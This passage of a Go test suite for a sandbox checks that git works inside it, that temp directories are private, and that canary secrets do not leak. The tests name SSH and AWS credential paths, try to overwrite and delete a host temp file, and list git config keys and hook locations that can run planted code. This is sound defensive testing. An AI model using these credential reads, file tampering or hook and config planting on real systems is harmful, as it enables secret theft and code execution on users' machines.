			name := fmt.Sprintf("first-%d.txt", i)
			r := e.sh("echo ok > " + name)
			b, err := os.ReadFile(filepath.Join(e.ws, name))
			if err != nil || string(b) != "ok\n" {
				t.Fatalf("run %d in a fresh HOME: the workspace write did not land (%q, %v)\n%s", i, b, err, r)
			}
		}
	})
}

// TestFSGitPositive: ordinary git work in the workspace still works, in
// both transaction modes.
func TestFSGitPositive(t *testing.T) {
	t.Parallel()
	t.Run("commit-in-existing-repo", func(t *testing.T) {
		forModes(t, func(t *testing.T, e *env, _ bool) {
			e.hostRepo(t, ".")
			msg := "sandboxed-commit-" + randHex(4)
			checkConfig := fileUnchanged(t, filepath.Join(e.ws, ".git", "config"))
			r := e.run(t, `echo change > change.txt && git add -A && git commit -q -m `+msg+` && echo COMMITTED`)
			if !strings.Contains(r.stdout, "COMMITTED") {
				t.Fatalf("git commit inside the sandbox failed\n%s", r)
			}
			if log := e.hostGit(t, "log", "--oneline"); !strings.Contains(log, msg) {
				t.Fatalf("the commit is not visible on the host: %q\n%s", log, r)
			}
			if got := e.hostGit(t, "show", "HEAD:change.txt"); got != "change\n" {
				t.Fatalf("HEAD:change.txt = %q", got)
			}
			checkConfig()
			if hooks := liveHooks(e.ws); len(hooks) > 0 {
				t.Fatalf("hooks in the workspace: %v", hooks)
			}
		})
	})
	t.Run("init-and-commit-in-empty-workspace", func(t *testing.T) {
		forModes(t, func(t *testing.T, e *env, _ bool) {
			msg := "fresh-repo-" + randHex(4)
			r := e.run(t, `git init -q && echo a > a.txt && git add -A && git commit -q -m `+msg+` && echo COMMITTED`)
			if !strings.Contains(r.stdout, "COMMITTED") {
				t.Fatalf("git init + commit inside the sandbox failed\n%s", r)
			}
			if st, err := os.Lstat(filepath.Join(e.ws, ".git")); err != nil || !st.IsDir() {
				t.Fatalf("the new repository was removed (lstat: %v)\n%s\nreport persistence: %v", err, r, r.report["persistence"])
			}
			if log := e.hostGit(t, "log", "--oneline"); !strings.Contains(log, msg) {
				t.Fatalf("the commit is not visible on the host: %q\n%s", log, r)
			}
		})
	})
}

// TestFSPrivateTmp: /tmp (and /var/tmp, /dev/shm) inside are not the
// host's, in either direction.
func TestFSPrivateTmp(t *testing.T) {
	t.Parallel()
	for _, dir := range []string{"/tmp", "/var/tmp", "/dev/shm"} {
		t.Run("write-stays-inside"+strings.ReplaceAll(dir, "/", "-"), func(t *testing.T) {
			forEach(t, func(t *testing.T, e *env) {
				if st, err := os.Stat(dir); err != nil || !st.IsDir() {
					t.Skipf("no %s on this host", dir)
				}
				name := filepath.Join(dir, "sandboxd-it-"+randHex(6))
				t.Cleanup(func() { os.Remove(name) })
				r := e.run(t, `echo inside-`+e.canary+` > `+name+` && cat `+name)
				if !strings.Contains(r.stdout, "inside-"+e.canary) {
					t.Fatalf("writing the private %s failed\n%s", dir, r)
				}
				if _, err := os.Lstat(name); !errors.Is(err, fs.ErrNotExist) {
					t.Fatalf("%s appeared on the host (lstat: %v)\n%s", name, err, r)
				}
			})
		})
	}
	for _, dir := range []string{"/tmp", "/var/tmp", "/dev/shm"} {
		t.Run("host-invisible"+strings.ReplaceAll(dir, "/", "-"), func(t *testing.T) {
			forEach(t, func(t *testing.T, e *env) {
				if st, err := os.Stat(dir); err != nil || !st.IsDir() {
					t.Skipf("no %s on this host", dir)
				}
				base := "sandboxd-it-" + randHex(6)
				name := filepath.Join(dir, base)
				if err := os.WriteFile(name, []byte("host "+e.canary+"\n"), 0o644); err != nil {
					t.Fatal(err)
				}
				os.Chmod(name, 0o644)
				t.Cleanup(func() { os.Remove(name) })
				check := fileUnchanged(t, name)
				r := e.run(t, `ls -a `+dir+`; test -e `+name+` && echo VISIBLE-`+base+`; cat `+name+`; echo evil > `+name+`; rm -f `+name)
				if strings.Contains(r.stdout, base) {
					t.Fatalf("the host's %s is visible inside\n%s", name, r)
				}
				e.noLeak(t, r)
				check()
			})
		})
	}
}

// ---- helpers ----

// run runs script in the sandbox and fails unless the script got to its
// end (so a denial is told apart from a sandbox that never started).
func (e *env) run(t *testing.T, script string) result {
	t.Helper()
	r := e.sh(script + "\necho " + ranMarker)
	if !strings.Contains(r.stdout, ranMarker) {
		t.Fatalf("the command did not run to its end\n%s", r)
	}
	return r
}

// expand fills a script's placeholders: OUT (an outside file), OUTDIR (its
// directory), SSH and AWS (the canary secrets), HOME and WS.
func (e *env) expand(script, out string) string {
	pairs := []string{
		"OUTDIR", filepath.Dir(out),
		"OUT", out,
		"SSH", filepath.Join(e.home, ".ssh", "id_rsa"),
		"AWS", filepath.Join(e.home, ".aws", "credentials"),
		"HOME", e.home,
		"WS", e.ws,
		"MARK", e.mark(),
	}
	return strings.NewReplacer(pairs...).Replace(script)
}

// canaryForms returns the canary and the stable parts of its base64
// encoding at each of the three alignments.
func canaryForms(canary string) []string {
	forms := []string{canary}
	for shift := 0; shift < 3; shift++ {
		enc := base64.StdEncoding.EncodeToString([]byte(strings.Repeat("\x00", shift) + canary))
		start := (shift + 2) / 3 * 4
		end := (shift + len(canary)) / 3 * 4
		if end-start >= 12 {
			forms = append(forms, enc[start:end])
		}
	}
	return forms
}

func containsCanary(s, canary string) bool {
	flat := strings.Join(strings.Fields(s), "")
	for _, f := range canaryForms(canary) {
		if strings.Contains(s, f) || strings.Contains(flat, f) {
			return true
		}
	}
	return false
}

// noLeak fails if the canary (plain or base64) is in the output, the
// report, or any file in the workspace.
func (e *env) noLeak(t *testing.T, r result) {
	t.Helper()
	e.noCanary(t, r)
	if containsCanary(r.stdout, e.canary) || containsCanary(r.stderr, e.canary) {
		t.Fatalf("the canary leaked (encoded)\n%s", r)
	}
	if b, _ := json.Marshal(r.report); containsCanary(string(b), e.canary) {
		t.Fatalf("the canary is in the report: %s", b)
	}
	filepath.WalkDir(e.ws, func(p string, d fs.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() {
			return nil
		}
		b, err := os.ReadFile(p)
		if err == nil && containsCanary(string(b), e.canary) {
			t.Fatalf("the canary is in the workspace file %s\n%s", p, r)
		}
		return nil
	})
}

// noPrivilegeBits fails if any file in ws is setuid, setgid or carries a
// security.capability xattr, seen from the host.
func noPrivilegeBits(t *testing.T, ws string, r result) {
	t.Helper()
	filepath.WalkDir(ws, func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.Type()&fs.ModeSymlink != 0 {
			return nil
		}
		var st syscall.Stat_t
		if err := syscall.Lstat(p, &st); err != nil {
			return nil
		}
		if st.Mode&syscall.S_IFMT == syscall.S_IFREG && st.Mode&0o6000 != 0 {
			t.Fatalf("%s is mode %o (uid %d) on the host\n%s", p, st.Mode, st.Uid, r)
		}
		buf := make([]byte, 256)
		if n, err := syscall.Getxattr(p, "security.capability", buf); err == nil || !errors.Is(err, syscall.ENODATA) {
			t.Fatalf("%s carries security.capability on the host (%d bytes, %v)\n%s", p, n, err, r)
		}
		return nil
	})
}

// listDir returns a directory's entry names.
func listDir(t *testing.T, dir string) string {
	t.Helper()
	ents, err := os.ReadDir(dir)
	if err != nil {
		return "error: " + err.Error()
	}
	var names []string
	for _, e := range ents {
		names = append(names, e.Name())
	}
	sort.Strings(names)
	return strings.Join(names, ",")
}

func inode(t *testing.T, p string) uint64 {
	t.Helper()
	var st syscall.Stat_t
	if err := syscall.Lstat(p, &st); err != nil {
		t.Fatalf("lstat %s: %v", p, err)
	}
	return st.Ino
}

func modeOf(t *testing.T, p string) uint32 {
	t.Helper()
	var st syscall.Stat_t
	if err := syscall.Lstat(p, &st); err != nil {
		t.Fatalf("lstat %s: %v", p, err)
	}
	return st.Mode
}

// liveHooks lists files in the workspace that git or husky would run as
// hooks: anything but a *.sample in the hooks directory of a directory
// named .git* (the repository's own, or one renamed aside), and husky's.
func liveHooks(ws string) []string {
	var out []string
	filepath.WalkDir(ws, func(p string, d fs.DirEntry, err error) error {
		if err != nil || p == ws || d.IsDir() || strings.HasSuffix(d.Name(), ".sample") {
			return nil
		}
		dir := filepath.Dir(p)
		if (filepath.Base(dir) == "hooks" && strings.HasPrefix(filepath.Base(filepath.Dir(dir)), ".git")) ||
			filepath.Base(dir) == ".husky" {
			rel, _ := filepath.Rel(ws, p)
			out = append(out, rel)
		}
		return nil
	})
	return out
}

// noExecConfig fails when the git config file p holds more of the keys
// that run a program (the ones the tests plant) than before.
func noExecConfig(t *testing.T, p, before string, r result) {
	t.Helper()
	b, err := os.ReadFile(p)
	if err != nil {
		return
	}
	low, was := strings.ToLower(string(b)), strings.ToLower(before)
	for _, k := range []string{"fsmonitor", "hookspath", "sshcommand", "pager", "editor"} {
		if strings.Count(low, k) > strings.Count(was, k) {
			t.Fatalf("%s holds %s after the run:\n%s\n%s", p, k, b, r)
		}
	}
}

// mentions reports whether the report's persistence list or stderr names
// the workspace-relative path rel.
func mentions(r result, rel string) bool {
	return reportListNames(r, "persistence", rel) || strings.Contains(r.stderr, rel)
}

// reportListNames reports whether an entry of the report's list key has a
// path at, above or below p.
func reportListNames(r result, key, p string) bool {
	list, _ := r.report[key].([]any)
	for _, item := range list {
		if m, ok := item.(map[string]any); ok {
			if q, _ := m["path"].(string); q == p || strings.HasPrefix(q, p+"/") || strings.HasPrefix(p, q+"/") {
				return true
			}
		}
	}
	return false
}

// hostRepo makes the directory rel of the workspace a git repository with
// one commit, created on the host by the env's identity, with a
// .git/hooks directory.
func (e *env) hostRepo(t *testing.T, rel string) {
	t.Helper()
	dir := filepath.Join(e.ws, rel)
	e.writeFile(filepath.Join(dir, "README"), "hello\n", 0o644)
	e.hostGitIn(t, dir, "init", "-q")
	e.hostGitIn(t, dir, "add", "-A")
	e.hostGitIn(t, dir, "commit", "-q", "-m", "initial")
	hooks := filepath.Join(dir, ".git", "hooks")
	if _, err := os.Stat(hooks); err != nil {
		if err := os.Mkdir(hooks, 0o755); err != nil {
			t.Fatal(err)
		}
		e.chown(hooks)
	}
	if h := liveHooks(dir); len(h) > 0 {
		t.Fatalf("setup: the fresh repository already has hooks: %v", h)
	}
}

// mark is where planted hooks and config leave a trace when the host runs
// them: in the caller's home, which the sandbox cannot write.
func (e *env) mark() string { return filepath.Join(e.home, "pwned") }

// hostProbe runs git on the host, as the caller, the way a user would
// after the run (status, a commit, a checkout) in the workspace directory
// rel, and fails if anything the command planted ran or if git's
// repository, hooks or config now come from somewhere else.
func (e *env) hostProbe(t *testing.T, rel string, r result) {
	t.Helper()
	dir := filepath.Join(e.ws, rel)
	if _, err := os.Lstat(e.mark()); err == nil {
		t.Fatalf("%s exists before the host ran git: the command wrote into HOME\n%s", e.mark(), r)
	}
	if _, err := e.gitOut(dir, "rev-parse", "--git-dir"); err != nil {
		return // no repository there (any more)
	}
	common, _ := e.gitOut(dir, "rev-parse", "--path-format=absolute", "--git-common-dir")
	gitDir, _ := e.gitOut(dir, "rev-parse", "--path-format=absolute", "--git-dir")
	hooks, _ := e.gitOut(dir, "rev-parse", "--path-format=absolute", "--git-path", "hooks")
	e.gitOut(dir, "status")
	e.gitOut(dir, "commit", "-q", "--allow-empty", "-m", "probe")
	e.gitOut(dir, "checkout", "-q", "-b", "probe-"+randHex(3))
	if _, err := os.Lstat(e.mark()); err == nil {
		t.Fatalf("something the command planted ran when the host used git in %s (git dir %q, common dir %q, hooks %q)\n%s",
			dir, strings.TrimSpace(gitDir), strings.TrimSpace(common), strings.TrimSpace(hooks), r)
	}
	if strings.TrimSpace(common) != strings.TrimSpace(gitDir) {
		t.Fatalf("git in %s now takes its config and hooks from %q (git dir %q)\n%s", dir, strings.TrimSpace(common), strings.TrimSpace(gitDir), r)
	}
}

// hostGit runs git on the host in the workspace as the env's identity.
func (e *env) hostGit(t *testing.T, args ...string) string {
	t.Helper()
	return e.hostGitIn(t, e.ws, args...)
}

func (e *env) hostGitIn(t *testing.T, dir string, args ...string) string {
	t.Helper()
	out, err := e.gitOut(dir, args...)
	if err != nil {
		t.Fatalf("host git %v in %s: %v\n%s", args, dir, err, out)
	}
	return out
}

// gitOut runs git on the host in dir as the env's identity and returns
// its stdout (stdout and stderr on error).
func (e *env) gitOut(dir string, args ...string) (string, error) {
	cmd := exec.Command("git", args...)
	cmd.Dir = dir
	cmd.Env = []string{"HOME=" + e.home, "PATH=/usr/local/bin:/usr/bin:/bin", "LANG=C.UTF-8",
		"GIT_CONFIG_NOSYSTEM=1", "GIT_CEILING_DIRECTORIES=" + e.dir}
	if os.Geteuid() == 0 && e.id.uid != 0 {
		cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{
			Uid: uint32(e.id.uid), Gid: uint32(e.id.gid), Groups: []uint32{}}}
	}
	var stdout, stderr strings.Builder
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	if err := cmd.Run(); err != nil {
		return stdout.String() + stderr.String(), err
	}
	return stdout.String(), nil
}
